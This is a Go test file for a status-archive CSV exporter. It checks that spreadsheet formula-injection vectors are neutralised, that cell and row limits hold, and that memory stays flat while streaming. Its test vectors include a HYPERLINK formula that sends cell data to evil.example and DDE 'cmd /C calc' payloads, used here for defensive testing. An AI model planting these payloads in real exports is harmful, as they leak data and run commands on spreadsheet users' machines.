package export

import (
	"bytes"
	"errors"
	"io"
	"iter"
	"math/rand/v2"
	"runtime"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/statusarchive/statusarchive/archive"
	"github.com/statusarchive/statusarchive/parser"
)

// owaspVectors are the text-field vectors of RELIABILITY.md part (c).
var owaspVectors = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"details")`,
	`=cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
	`+1-555-0100`,
	`-2 services degraded`,
	`=1+2";=1+2`,
	`=1+2'" ;,=1+2`,
	"\t=1+1",
	"\r=1+1",
	"\n=1+1",
	" =1+1",
	"＝1+1",
	"＋1",
	"－1",
	"＠SUM(1)",
	"a,b\",=1+1",
	"\"=1+1\"",
	"ok\x00=1+1",
	"\x00=1+1",
	"\xed\xa0\x80=1",
	"\xff\xfe@x",
}

// triggerCells returns the cells of recs that start with a trigger, or
// with one after leading spaces.
func triggerCells(recs [][]string) []string {
	var bad []string
	for _, rec := range recs {
		for _, cell := range rec {
			if NeedsNeutralising(cell) {
				bad = append(bad, cell)
			}
		}
	}
	return bad
}

// hostileRows puts each string in a title, an update body, a component
// name and a source.
func hostileRows(strs []string) iter.Seq2[archive.Row, error] {
	return func(yield func(archive.Row, error) bool) {
		for i, s := range strs {
			r := archive.Row{Incident: parser.Incident{
				Source: s, ID: strconv.Itoa(i), Kind: parser.KindIncident, Title: s, URL: s, ImpactRaw: s,
				Components: []parser.Component{{Name: s, StatusRaw: s}},
				Updates:    []parser.Update{{StatusRaw: s, At: parser.NewTime(time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC), s), Body: s, Components: []string{s}}},
			}, Version: 1}
			if !yield(r, nil) {
				return
			}
		}
	}
}

func exportAll(t testing.TB, strs []string, opts Options) map[Table][][]string {
	t.Helper()
	out := map[Table][][]string{}
	for _, table := range []Table{TableIncidents, TableUpdates, TableComponents} {
		var b bytes.Buffer
		if err := Write(&b, table, FormatCSV, hostileRows(strs), opts); err != nil {
			t.Fatalf("Write(%s): %v", table, err)
		}
		out[table] = readCSV(t, b.Bytes())
	}
	return out
}

func TestCSVNeutralisesOWASPVectors(t *testing.T) {
	for table, recs := range exportAll(t, owaspVectors, Options{}) {
		if bad := triggerCells(recs); len(bad) > 0 {
			t.Errorf("%s: %d cells start with a trigger: %q, want 0", table, len(bad), bad)
		}
		if got, want := len(recs), len(owaspVectors)+1; got != want {
			t.Errorf("%s: %d records read back, want %d (a separator or quote broke out of its cell)", table, got, want)
		}
		for i, rec := range recs[1:] {
			if table == TableIncidents && rec[1] != strconv.Itoa(i) {
				t.Errorf("%s: record %d has id %q, want %d: cells shifted", table, i, rec[1], i)
			}
		}
	}
	// OWASP's own examples, byte for byte, inside RFC 4180 quoting.
	var b bytes.Buffer
	if err := Write(&b, TableIncidents, FormatCSV, hostileRows([]string{`=1+2";=1+2`, `=1+2'" ;,=1+2`}), Options{NoBOM: true}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{`"'=1+2"";=1+2"`, `"'=1+2'"" ;,=1+2"`} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("CSV = %s, want it to hold %s", b.String(), want)
		}
	}
}

func TestCSVRawKeepsText(t *testing.T) {
	recs := exportAll(t, []string{"=1+2", "@SUM(1)", "ok\x00"}, Options{Raw: true})[TableIncidents]
	if got := []string{recs[1][2], recs[2][2], recs[3][2]}; got[0] != "=1+2" || got[1] != "@SUM(1)" || got[2] != "ok" {
		t.Errorf("raw titles = %q, want =1+2, @SUM(1), ok (NUL still removed)", got)
	}
}

// fuzzString draws a string weighted towards what breaks CSV.
func fuzzString(r *rand.Rand) string {
	pieces := []string{"=", "+", "-", "@", "\t", "\r", "\n", "\r\n", "＝", "＋", "－", "＠", " ", "\"", "'", ",", ";",
		"\x00", "\xff", "\xed\xa0\x80", "\u202e", "\u200b", "\ufeff", "a", "1", "SUM(1)", "cmd|' /C calc'!A0", "é", "😀"}
	n := r.IntN(12)
	var b strings.Builder
	for range n {
		if r.IntN(8) == 0 {
			b.WriteByte(byte(r.IntN(256)))
			continue
		}
		b.WriteString(pieces[r.IntN(len(pieces))])
	}
	return b.String()
}

// TestCSVFuzzedStrings is RELIABILITY test 26's figure: 10,000 fuzzed
// strings, 0 output cells beginning with a trigger.
func TestCSVFuzzedStrings(t *testing.T) {
	r := rand.New(rand.NewPCG(26, 10000))
	strs := make([]string, 10000)
	triggers := 0
	for i := range strs {
		strs[i] = fuzzString(r)
		if NeedsNeutralising(strs[i]) {
			triggers++
		}
	}
	cells := 0
	for table, recs := range exportAll(t, strs, Options{}) {
		for _, rec := range recs {
			cells += len(rec)
			for _, cell := range rec {
				if !utf8.ValidString(cell) || strings.IndexByte(cell, 0) >= 0 {
					t.Errorf("%s: cell %q holds NUL or invalid UTF-8", table, cell)
				}
			}
		}
		if bad := triggerCells(recs); len(bad) > 0 {
			t.Errorf("%s: %d cells start with a trigger, want 0; first: %q", table, len(bad), bad[0])
		}
		if got, want := len(recs), len(strs)+1; got != want {
			t.Errorf("%s: %d records read back, want %d", table, got, want)
		}
	}
	t.Logf("10,000 strings (%d starting with a trigger) -> %d cells read back, 0 starting with a trigger", triggers, cells)
}

func FuzzSpreadsheetCell(f *testing.F) {
	for _, v := range owaspVectors {
		f.Add(v)
	}
	f.Add(strings.Repeat("x", MaxCellChars+5))
	f.Add(strings.Repeat("😀", MaxCellChars/2+1))
	f.Add(strings.Repeat("\n", 300))
	f.Fuzz(func(t *testing.T, s string) {
		got := SpreadsheetCell(s)
		if NeedsNeutralising(got) {
			t.Errorf("SpreadsheetCell(%q) = %q, starts with a trigger", s, got)
		}
		if !utf8.ValidString(got) || strings.IndexByte(got, 0) >= 0 {
			t.Errorf("SpreadsheetCell(%q) = %q, holds NUL or invalid UTF-8", s, got)
		}
		units := 0
		for _, r := range got {
			units += utf16Len(r)
		}
		if units > MaxCellChars {
			t.Errorf("SpreadsheetCell(%d bytes) = %d UTF-16 units, want at most %d", len(s), units, MaxCellChars)
		}
		if n := strings.Count(got, "\n"); n > MaxCellLineFeeds {
			t.Errorf("SpreadsheetCell(%q) has %d line feeds, want at most %d", s, n, MaxCellLineFeeds)
		}
	})
}

func TestSpreadsheetCellLimits(t *testing.T) {
	tests := []struct {
		name       string
		in         string
		wantUnits  int // UTF-16 units of the result
		wantMarker bool
		wantLF     int
	}{
		{"40,000-character title", strings.Repeat("a", 40000), MaxCellChars, true, 0},
		{"40,000-character formula", "=" + strings.Repeat("a", 39999), MaxCellChars, true, 0},
		{"astral characters count twice", strings.Repeat("😀", 20000), MaxCellChars - 1, true, 0},
		{"exactly the limit", strings.Repeat("b", MaxCellChars), MaxCellChars, false, 0},
		{"300 line feeds", strings.Repeat("x\n", 300), 600, false, MaxCellLineFeeds},
		{"10 MiB body", strings.Repeat("0123456789abcdef", 10<<16), MaxCellChars, true, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := SpreadsheetCell(tt.in)
			units := 0
			for _, r := range got {
				units += utf16Len(r)
			}
			if units != tt.wantUnits {
				t.Errorf("SpreadsheetCell: %d UTF-16 units, want %d", units, tt.wantUnits)
			}
			if has := strings.HasSuffix(got, TruncatedMarker); has != tt.wantMarker {
				t.Errorf("SpreadsheetCell ends with the marker: %v, want %v", has, tt.wantMarker)
			}
			if n := strings.Count(got, "\n"); n != tt.wantLF {
				t.Errorf("SpreadsheetCell: %d line feeds, want %d", n, tt.wantLF)
			}
		})
	}
}

func TestCSVRowLimit(t *testing.T) {
	rows := func(n int) iter.Seq2[archive.Row, error] {
		return func(yield func(archive.Row, error) bool) {
			r := archive.Row{Incident: parser.Incident{Source: "s", ID: "i", Components: []parser.Component{{Name: "c"}}}}
			for range n {
				if !yield(r, nil) {
					return
				}
			}
		}
	}
	tests := []struct {
		name  string
		limit int // the sheet's rows, header included
		rows  int
		raw   bool
		ok    bool
	}{
		{"fits with the header", 1000, 999, false, true},
		{"one row too many", 1000, 1000, false, false},
		{"raw ignores the limit", 1000, 5000, true, true},
		// Excel's own limit, once at full size: slow under the race detector.
		{"Excel's limit", 0, MaxRows, false, false},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if tt.limit == 0 && (testing.Short() || raceEnabled) {
				t.Skip("writes a million rows")
			}
			err := Write(io.Discard, TableComponents, FormatCSV, rows(tt.rows), Options{Raw: tt.raw, maxRows: tt.limit})
			if tt.ok && err != nil || !tt.ok && !errors.Is(err, ErrTooManyRows) {
				t.Errorf("Write(%d rows, sheet of %d, raw %v) = %v, want ok %v", tt.rows, tt.limit, tt.raw, err, tt.ok)
			}
		})
	}
}

// generated yields n distinct incident rows built on the fly, sampling the
// heap every sample rows into peak.
func generated(n, sample int, peak *uint64) iter.Seq2[archive.Row, error] {
	return func(yield func(archive.Row, error) bool) {
		base := time.Date(2024, 1, 1, 0, 0, 0, 0, time.UTC)
		var ms runtime.MemStats
		for i := range n {
			at := base.Add(time.Duration(i) * time.Minute)
			id := strconv.Itoa(i)
			r := archive.Row{
				Incident: parser.Incident{
					Source: "bench", ID: "inc-" + id, Kind: parser.KindIncident, Title: "Elevated API errors " + id,
					URL: "https://status.example/incidents/" + id, Impact: parser.ImpactMinor, Status: parser.StatusResolved,
					Components: []parser.Component{{Name: "API"}},
					Updates: []parser.Update{
						{Status: parser.StatusInvestigating, At: parser.NewTime(at, ""), Body: "We are investigating elevated error rates."},
						{Status: parser.StatusResolved, At: parser.NewTime(at.Add(42*time.Minute), ""), Body: "From 13:35 UTC to 14:24 UTC some requests failed; =fixed."},
					},
				},
				Version: 1, FirstSeen: at, LastSeen: at,
			}
			r.Incident.ReadWindows()
			if peak != nil && i%sample == 0 {
				runtime.ReadMemStats(&ms)
				*peak = max(*peak, ms.HeapAlloc)
			}
			if !yield(r, nil) {
				return
			}
		}
	}
}

// peakHeap exports n generated rows as CSV and returns the peak heap seen.
func peakHeap(t testing.TB, n int) uint64 {
	runtime.GC()
	var peak uint64
	if err := Write(io.Discard, TableIncidents, FormatCSV, generated(n, 1000, &peak), Options{}); err != nil {
		t.Fatalf("Write: %v", err)
	}
	return peak
}

// TestExportMemoryFlat checks that ten times the rows do not take more
// heap: the export streams.
func TestExportMemoryFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("exports 220,000 rows")
	}
	n := 20_000
	if raceEnabled {
		n = 2_000 // the race detector slows the export tenfold
	}
	small, large := peakHeap(t, n), peakHeap(t, 10*n)
	t.Logf("peak heap: %d rows %.1f MiB, %d rows %.1f MiB", n, float64(small)/(1<<20), 10*n, float64(large)/(1<<20))
	if large > small+8<<20 {
		t.Errorf("peak heap at %d rows = %d bytes, at %d = %d: want no growth beyond 8 MiB", 10*n, large, n, small)
	}
}

// BenchmarkExportCSV exports a generator of rows as CSV and reports rows/s
// and the peak heap; compare rows=100000 with rows=1000000 to see that
// memory does not grow with the row count.
func BenchmarkExportCSV(b *testing.B) {
	for _, n := range []int{100_000, 1_000_000} {
		b.Run("rows="+strconv.Itoa(n), func(b *testing.B) {
			var peak uint64
			runtime.GC()
			start := time.Now()
			for b.Loop() {
				if err := Write(io.Discard, TableIncidents, FormatCSV, generated(n, 10_000, &peak), Options{}); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(n*b.N)/time.Since(start).Seconds(), "rows/s")
			b.ReportMetric(float64(peak)/(1<<20), "peak-heap-MiB")
		})
	}
}
